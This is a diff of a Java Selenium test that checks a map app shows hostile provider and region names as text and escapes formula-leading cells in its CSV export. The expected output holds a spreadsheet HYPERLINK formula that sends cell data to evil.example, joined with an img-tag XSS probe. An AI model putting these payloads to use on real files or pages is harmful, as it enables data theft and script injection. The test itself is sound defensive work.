@@ -2,13 +2,10 @@ package org.linli.server;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import java.time.Duration;
 import java.util.List;
-import java.util.Set;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.linli.core.access.Principal;
 import org.linli.core.access.Role;
 import org.openqa.selenium.By;
 import org.openqa.selenium.JavascriptExecutor;
@@ -61,10 +58,6 @@ class HostileNamesBrowserTest {
     s.close();
   }
 
-  private static String token(String sub, Role role) {
-    return s.server.tokens().mint(new Principal(sub, Set.of(role), null, null), Duration.ofMinutes(10));
-  }
-
   /** Hovers {@code target} and answers the tooltip Leaflet opens for it. */
   private static WebElement hoverTooltip(WebElement target) {
     new Actions(browser).moveToElement(target).perform();
@@ -74,7 +67,8 @@ class HostileNamesBrowserTest {
 
   @Test
   void residentMap_showsAProvidersHostileName_asText() {
-    browser.get("http://127.0.0.1:" + s.server.port() + "/resident/#token=" + token("r-hostile", Role.RESIDENT));
+    browser.get("http://127.0.0.1:" + s.server.port() + "/resident/#token="
+        + s.token("r-hostile", Role.RESIDENT, null, null));
     WebDriverWait wait = Browsers.waitFor(browser);
     try {
       wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
@@ -96,7 +90,8 @@ class HostileNamesBrowserTest {
   @Test
   void staffMap_showsAHostileRegionName_asText_andItsCsvCellStaysText() {
     browser.get("about:blank");
-    browser.get("http://127.0.0.1:" + s.server.port() + "/staff/#token=" + token("s-hostile", Role.STAFF));
+    browser.get("http://127.0.0.1:" + s.server.port() + "/staff/#token="
+        + s.token("s-hostile", Role.STAFF, null, null));
     WebDriverWait wait = Browsers.waitFor(browser);
     try {
       wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
@@ -110,7 +105,8 @@ class HostileNamesBrowserTest {
       js.executeScript("window.download = (name, type, content) => { window.__csv = content; };");
       browser.findElement(By.id("export-csv")).click();
       String csv = (String) js.executeScript("return window.__csv;");
-      assertThat(csv).contains("\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"详情\"\")<img id=pwned2 src=x>\"");
+      assertThat(csv).contains(
+          "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"详情\"\")<img id=pwned2 src=x>\"");
       assertThat(csv.lines().skip(1)).noneMatch(line -> line.matches("^(.*,)?\"?[=+@-].*"));
       assertThat((String) js.executeScript("return csvCell('+1') + '|' + csvCell(-5) + '|' + csvCell('@x') + '|'"
           + " + csvCell('a,b') + '|' + csvCell('\\tx');")).isEqualTo("'+1|-5|'@x|\"a,b\"|'\tx");
